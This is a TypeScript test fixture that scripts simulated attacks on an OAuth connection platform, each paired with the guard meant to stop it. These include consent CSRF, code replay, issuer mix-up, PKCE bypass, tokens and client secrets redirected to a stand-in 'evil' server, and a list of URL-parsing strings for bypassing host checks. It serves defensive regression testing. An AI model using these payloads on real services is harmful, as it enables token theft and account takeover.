import { beginDelivery, makeCallbackScene } from "../../src/modules/callbacks/callback-scene.fixture.ts";
import type { GuardName } from "../../src/platform/guards.ts";
import { query } from "../builders.ts";
import type { World } from "./world.ts";

/** What the attacker got, in words; null: nothing. */
export type Loot = string | null;

export type Attack = {
  name: string;
  /** The guard that stops it, and without which it works. */
  guard: GuardName;
  /** In one sentence, as docs/security.md tells it. */
  story: string;
  run(world: World): Promise<Loot>;
};

// vera is the victim at the bank, mallory the attacker. Nobody breaks anything: each does what the web lets them.
const vera = { user: "vera" };
const mallory = { user: "mallory" };

/** Which of vera's codes and tokens, and of the registrations' secrets, the hostile server has heard. */
function stolen({ bank, evil }: World): Loot {
  const known = evil.knows([...bank.secretsOf("vera"), ...bank.clientSecrets()]);
  return known.length > 0 ? `evil knows ${known.map((secret) => secret.slice(0, 3)).join(", ")}` : null;
}

const consents: Attack[] = [
  {
    name: "consent for another's connection",
    guard: "BROWSER",
    story:
      "The attacker begins a consent in their own organization and sends the bank's page to the victim, who accepts: the victim's account would become the attacker's connection.",
    async run(world) {
      const theirs = await world.makeBankCustomer();
      const begun = await world.begin(theirs.admin);
      await world.comeBack(world.bank.consent(begun.authorizationUrl, vera), "");
      if ((await world.ownerOf(begun)) === null) return null;
      return world.invoke(theirs.admin, begun);
    },
  },
  {
    name: "the next person at the same browser",
    guard: "SESSION",
    story:
      "In a browser that two people use, the attacker finishes the consent that the victim left open, with an account of their own: the victim's data would go there.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const developer = await world.makeDeveloper(victim);
      const hers = await world.signIn(victim.admin);
      const begun = await world.begin({ cookie: hers });
      const theirs = await world.signIn(developer);
      const back = world.bank.consent(begun.authorizationUrl, mallory);
      await world.comeBack(back, `${begun.cookie}; ${theirs}`);
      return world.ownerOf(begun);
    },
  },
  {
    name: "the callback once more",
    guard: "ONCE",
    story:
      "Somebody opens the address of a finished consent again, from the history of the browser: its code would be sent a second time.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const begun = await world.begin(victim.admin);
      const back = world.bank.consent(begun.authorizationUrl, vera);
      await world.comeBack(back, begun.cookie);
      await world.comeBack(back, begun.cookie);
      const code = back.searchParams.get("code");
      const times = world.bank.exchanged.filter((one) => one === code).length;
      return times > 1 ? `exchanged ${times} times` : null;
    },
  },
  {
    name: "a consent from yesterday",
    guard: "EXPIRY",
    story:
      "A consent that was left open is finished long after, when nobody remembers what it was for: it would still count.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const begun = await world.begin(victim.admin);
      const { environment } = world.app;
      await environment.database.prisma.authorizationFlow.updateMany({
        where: { organizationId: victim.id },
        data: { expiresAt: environment.clock.now() },
      });
      await world.comeBack(world.bank.consent(begun.authorizationUrl, vera), begun.cookie);
      return world.ownerOf(begun);
    },
  },
  {
    name: "a lookalike in another organization",
    guard: "ORGANIZATION",
    story:
      "The victim is invited to the attacker's organization and connects a service there whose server leads on to the real bank, with the client and the callback address of the victim's own organization: the bank's code would go to the attacker's token endpoint.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const theirs = await world.makeOrganization();
      const { evil, bank } = world;
      const lookalike = bank.definition({
        tokenUrl: `${evil.origin}/token`,
        issuer: null,
        issuerRequired: false,
      });
      await world.defineService(theirs, lookalike);
      await world.saveClient(theirs.admin, { clientId: "lure", clientSecret: "lure" });
      // The member there who begins is the victim: the cookie is in the victim's own browser.
      const begun = await world.begin(theirs.admin);
      const led = new URL(begun.authorizationUrl);
      led.searchParams.set("client_id", victim.client.clientId);
      led.searchParams.set("redirect_uri", world.redirectUri(victim));
      await world.comeBack(bank.consent(led, vera), begun.cookie);
      return stolen(world);
    },
  },
  {
    name: "mix-up of two services",
    guard: "SERVICE",
    story:
      "One of an organization's services has a malicious server, which leads the browser on to the real bank with the bank's client and callback address: the bank's code would go to the malicious token endpoint.",
    async run(world) {
      const { evil, bank } = world;
      const victim = await world.makeBankCustomer();
      const malicious = bank.definition({
        tokenUrl: `${evil.origin}/token`,
        issuer: null,
        issuerRequired: false,
      });
      await world.defineService(victim, malicious, "newsletter");
      await world.saveClient(victim.admin, { clientId: "letters", clientSecret: "letters" }, "newsletter");
      const begun = await world.begin(victim.admin, "newsletter");
      const led = new URL(begun.authorizationUrl);
      led.searchParams.set("client_id", victim.client.clientId);
      led.searchParams.set("redirect_uri", world.redirectUri(victim));
      await world.comeBack(bank.consent(led, vera), begun.cookie);
      return stolen(world);
    },
  },
  {
    name: "another token endpoint while the consent is open",
    guard: "SERVICE_UNCHANGED",
    story:
      "While the victim reads the bank's page, somebody who may edit the service gives it another token endpoint: the code would go there.",
    async run(world) {
      const { evil, bank } = world;
      const victim = await world.makeBankCustomer();
      const begun = await world.begin(victim.admin);
      await world.editService(victim, bank.definition({ tokenUrl: `${evil.origin}/token` }));
      await world.comeBack(bank.consent(begun.authorizationUrl, vera), begun.cookie);
      return stolen(world);
    },
  },
  {
    name: "an answer of another realm",
    guard: "ISSUER",
    story:
      "The attacker, who saw the victim's authorization URL, answers it with a code of a realm of their own at the same server: the victim's data would go to the attacker's account.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const begun = await world.begin(victim.admin);
      const back = world.bank.consent(begun.authorizationUrl, { ...mallory, realm: "mallory" });
      await world.comeBack(back, begun.cookie);
      return world.ownerOf(begun);
    },
  },
  {
    name: "an answer without a sender",
    guard: "ISSUER_PRESENT",
    story:
      "The same, but the attacker takes the issuer out of the answer, so that there is nothing to compare.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const begun = await world.begin(victim.admin);
      const back = world.bank.consent(begun.authorizationUrl, { ...mallory, realm: "mallory" });
      back.searchParams.delete("iss");
      await world.comeBack(back, begun.cookie);
      return world.ownerOf(begun);
    },
  },
  {
    name: "a stolen code in a consent of one's own",
    guard: "PKCE",
    story:
      "A colleague finds the victim's unused code in a log and puts it into the answer to a consent that they began themselves: their connection would be the victim's account.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const colleague = await world.makeDeveloper(victim);
      const hers = await world.begin(victim.admin);
      const code = world.bank.consent(hers.authorizationUrl, vera).searchParams.get("code") ?? "";
      const begun = await world.begin(colleague);
      const back = world.bank.consent(begun.authorizationUrl, mallory);
      back.searchParams.set("code", code);
      await world.comeBack(back, begun.cookie);
      if ((await world.ownerOf(begun)) === null) return null;
      return world.invoke(colleague, begun);
    },
  },
  {
    name: "rights that are gone",
    guard: "RIGHTS_AGAIN",
    story:
      "A developer begins a consent, loses the role, and lets the browser come back: they would have made a connection all the same.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const developer = await world.makeDeveloper(victim);
      const begun = await world.begin(developer);
      await world.app.environment.database.prisma.member.update({
        where: { id: developer.memberId },
        data: { roles: ["BILLING_ADMIN"] },
      });
      await world.comeBack(world.bank.consent(begun.authorizationUrl, mallory), begun.cookie);
      return world.ownerOf(begun);
    },
  },
  {
    name: "another account in the place of the right one",
    guard: "SAME_ACCOUNT",
    story:
      "The victim reconnects in a browser that is signed in at the bank as the attacker: rules would go on with the attacker's account.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const hers = await world.connect(victim.admin, "vera");
      const again = await world.reconnect(victim.admin, hers);
      await world.comeBack(world.bank.consent(again.authorizationUrl, mallory), again.cookie);
      const owner = await world.ownerOf(hers);
      return owner === "vera" ? null : owner;
    },
  },
];

const tokens: Attack[] = [
  {
    name: "another token endpoint for a refresh",
    guard: "SERVICE_BOUND",
    story:
      "After the consent somebody gives the service another token endpoint: the next refresh would bring the refresh token there.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const hers = await world.connect(victim.admin, "vera");
      await world.editService(victim, world.bank.definition({ refreshUrl: `${world.evil.origin}/token` }));
      await world.expire(hers);
      await world.invoke(victim.admin, hers);
      return stolen(world);
    },
  },
  {
    name: "another API address for calls",
    guard: "SERVICE_BOUND",
    story: "The same with the API's address: the next call would bring the access token there.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const hers = await world.connect(victim.admin, "vera");
      await world.editService(victim, world.bank.definition({}, { apiBaseUrl: `${world.evil.origin}/api` }));
      await world.invoke(victim.admin, hers);
      return stolen(world);
    },
  },
  {
    name: "one more host for calls",
    guard: "SERVICE_BOUND",
    story:
      "The same with the list of hosts: a call that names the new one would bring the access token there.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const hers = await world.connect(victim.admin, "vera");
      const { host } = new URL(world.evil.origin);
      await world.editService(victim, world.bank.definition({}, { apiHosts: [host] }));
      await world.invoke(victim.admin, hers, `${world.evil.origin}/api/whoami`);
      return stolen(world);
    },
  },
  {
    name: "another address to revoke at",
    guard: "SERVICE_BOUND",
    story: "The same with the revocation endpoint: revoking would bring both tokens there, alive.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const hers = await world.connect(victim.admin, "vera");
      await world.editService(victim, world.bank.definition({ revokeUrl: `${world.evil.origin}/revoke` }));
      await world.revokeAtProvider(victim.admin, hers);
      return stolen(world);
    },
  },
  {
    name: "another token endpoint for the client's secret",
    guard: "CLIENT_BOUND",
    story:
      "A developer, who may change the service but never read the secret that an admin saved, gives it a token endpoint of their own and begins a consent: the secret would come to them.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const developer = await world.makeDeveloper(victim);
      await world.moveTokenEndpoint(developer, `${world.evil.origin}/token`);
      const begun = await world.tryBegin(developer);
      if (begun) await world.comeBack(world.bank.consent(begun.authorizationUrl, mallory), begun.cookie);
      return stolen(world);
    },
  },
  {
    name: "a token answer that names a foreign API",
    guard: "API_DOMAIN",
    story:
      "A server that names the API's address in its token answers is made to name the attacker's: every call would go there.",
    async run(world) {
      const { bank, evil } = world;
      const victim = await world.makeBankCustomer(bank.definition({ apiUrlMember: "api_url" }));
      bank.lies.apiUrl = `${evil.origin}/api`;
      const begun = await world.begin(victim.admin);
      const told = await world.comeBack(bank.consent(begun.authorizationUrl, vera), begun.cookie);
      if (told.error === null) await world.invoke(victim.admin, begun);
      return stolen(world);
    },
  },
  {
    name: "a token endpoint that redirects",
    guard: "NO_REDIRECT",
    story:
      "The bank's token endpoint answers with a redirect to the attacker: code, verifier and client secret would follow it.",
    async run(world) {
      const { bank, evil } = world;
      const victim = await world.makeBankCustomer();
      const begun = await world.begin(victim.admin);
      bank.lies.redirectTo = `${evil.origin}/token`;
      await world.comeBack(bank.consent(begun.authorizationUrl, vera), begun.cookie);
      return stolen(world);
    },
  },
];

const calls: Attack[] = [
  {
    name: "a call to another host",
    guard: "HOST_ALLOWED",
    story:
      "Somebody who may call through a connection, but never sees its token, gives addresses that lead elsewhere, spelled in every way that parsers differ on.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const colleague = await world.makeDeveloper(victim);
      const hers = await world.connect(victim.admin, "vera");
      const { host, port } = new URL(world.evil.origin);
      const bank = new URL(world.bank.origin).host;
      const addresses = [
        `http://${host}/`,
        `http:${host}`,
        `http:/${host}/`,
        `http:\\\\${host}`,
        `//${host}/`,
        `///${host}/`,
        `\\\\${host}\\`,
        `/\\${host}/`,
        `@${host}/`,
        `:pass@${host}/`,
        `.${host}`,
        `http://${bank}@${host}/`,
        `http://${bank}:80@${host}/`,
        `http://${bank}%40${host}/`,
        `http://${bank}#@${host}/`,
        `http://${bank}\\@${host}/`,
        `http://${host}/${bank}`,
        `http://localhost:${port}/`,
        `http://2130706433:${port}/`,
        `http://127.1:${port}/`,
        `HTTP://${host.toUpperCase()}/`,
        `/../../@${host}/`,
        `/%2f%2f${host}/`,
        ` http://${host}/`,
        `\thttp://${host}/`,
        `ht\ntp://${host}/`,
      ];
      const paths = [
        `//${host}/`,
        `/http://${host}/`,
        `/\\\\${host}/`,
        `/@${host}/`,
        `@${host}/`,
        `/%2e%2e//${host}/`,
        `/..//${host}/`,
        `?//${host}/`,
      ];
      await Promise.all([
        ...addresses.map((address) => world.invoke(colleague, hers, address)),
        ...paths.map((path) => world.proxy(colleague, hers, path)),
      ]);
      return stolen(world);
    },
  },
  {
    name: "an API that redirects",
    guard: "REDIRECT_HOST",
    story:
      "The bank's API has an open redirect: a call through it would bring the access token to the attacker.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const colleague = await world.makeDeveloper(victim);
      const hers = await world.connect(victim.admin, "vera");
      await world.invoke(colleague, hers, `/go?to=${encodeURIComponent(`${world.evil.origin}/api`)}`);
      return stolen(world);
    },
  },
];

const projects: Attack[] = [
  {
    name: "a script of another project",
    guard: "PROJECT_SHARE",
    story:
      "A script names a connection that is shared with other projects alone, whose link name its author guessed: it would call with that connection's credentials.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const hers = await world.connect(victim.admin, "vera");
      const [own, other] = [
        await world.makeProject(victim.admin, "Own"),
        await world.makeProject(victim.admin, "Other"),
      ];
      await world.share(victim.admin, hers, [own]);
      return world.runScript(
        victim.admin,
        other,
        `export default async () => {
          const { status, body } = await connections.invoke("${hers.linkName}", { path: "/whoami" });
          return { status, body };
        };`,
      );
    },
  },
];

const extensions: Attack[] = [
  {
    name: "a receiver that names another connection",
    guard: "INSTALLATION_OWN",
    story:
      "The publisher of an extension that may call through its own connection calls back with the link name of one of the customer's: it would get the customer's data.",
    async run(world) {
      const victim = await world.makeBankCustomer();
      const hers = await world.connect(victim.admin, "vera", "PRODUCTION");
      const scene = await makeCallbackScene(world.app, { customer: victim });
      const { token } = await beginDelivery(world.app, scene);
      const answer = await world.invoke({ token }, hers, "/whoami", "PRODUCTION");
      return answer === "CONNECTION_NOT_FOUND" ? null : answer;
    },
  },
  {
    name: "a receiver that was shown the door",
    guard: "INSTALLATION_GONE",
    story:
      "The publisher keeps the securityContext of an earlier callback and uses it after the customer has uninstalled the extension: it would go on reading.",
    async run(world) {
      const scene = await makeCallbackScene(world.app);
      const { token } = await beginDelivery(world.app, scene);
      await world.uninstall(scene);
      const { data } = await query(world.app, token, "{ currentInstallation { orgId } }");
      return data ? JSON.stringify(data) : null;
    },
  },
];

/** Every attack, with its guard on and off in attacks.test.ts; told in docs/security.md. */
export const attacks: readonly Attack[] = [...consents, ...tokens, ...calls, ...projects, ...extensions];
